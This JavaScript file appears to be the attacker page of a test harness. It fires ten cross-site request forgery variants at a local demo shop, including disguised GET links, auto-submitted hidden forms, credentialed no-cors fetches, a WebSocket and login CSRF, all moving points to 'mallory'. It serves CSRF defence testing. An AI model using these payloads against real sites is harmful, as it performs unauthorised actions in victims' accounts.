// The ways in which a page makes a browser send something to a site that is not its own.
const asked = new URLSearchParams(location.search);
const shop = asked.get("shop") ?? "http://shop.brew.localhost:5000";
const run = asked.get("run") ?? "";
const loot = { to: "mallory", points: "1000" };
const claim = document.querySelector("#claim");

const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
const address = path => `${shop}${path}?run=${run}`;
// A GET of which the shop makes a POST.
const disguised = () => `${address("/points")}&_method=POST&${new URLSearchParams(loot)}`;
const json = JSON.stringify({ to: loot.to, points: 1000 });

function form(path, fields, target = "") {
  const made = add("form", { action: address(path), method: "post", target, hidden: true });
  for (const [name, value] of Object.entries(fields)) made.append(Object.assign(document.createElement("input"), { name, value }));
  return made;
}

// The person presses the button; in a row of many attacks the page does it for them.
function onClaim(act) {
  claim.addEventListener("click", act);
  if (asked.has("auto")) claim.click();
}

// A GET brings no Origin, and the page that it comes from need not be told either.
const hidden = { referrerPolicy: "no-referrer" };

const attacks = {
  link: ["A link, dressed as a button", () => onClaim(() => add("a", { ...hidden, href: disguised() }).click())],
  image: ["An image that is none", () => add("img", { ...hidden, src: disguised(), alt: "" })],
  frame: ["A form sent into a hidden frame", () => { add("iframe", { name: "hidden", hidden: true }); form("/points", loot, "hidden").submit(); }],
  form: ["A form with hidden fields, sent by your click", () => onClaim(() => form("/points", loot).submit())],
  autoform: ["The same form, sent by itself", () => form("/points", loot).submit()],
  fetch: ["A script that sends JSON with your cookies", () => fetch(address("/api/points"), { method: "POST", mode: "no-cors", credentials: "include", body: json })],
  anonymous: ["A script that sends JSON without cookies", () => fetch(address("/api/points"), { method: "POST", mode: "no-cors", credentials: "omit", body: json })],
  socket: ["A WebSocket", () => {
    const socket = new WebSocket(address("/api/points/live").replace("http", "ws"));
    socket.onopen = () => socket.send(json);
    socket.onmessage = () => socket.close();
  }],
  token: ["A form with a token that the attacker got for themselves", () => form("/points", { ...loot, csrf_token: asked.get("token") ?? "" }).submit()],
  login: ["A form that logs you in as Mallory", () => form("/login", { name: "mallory", password: "gotcha" }).submit()],
};

const [does, act] = attacks[asked.get("attack")] ?? ["Nothing: it was not told to.", () => {}];
document.querySelector("#does").textContent = does;
act();
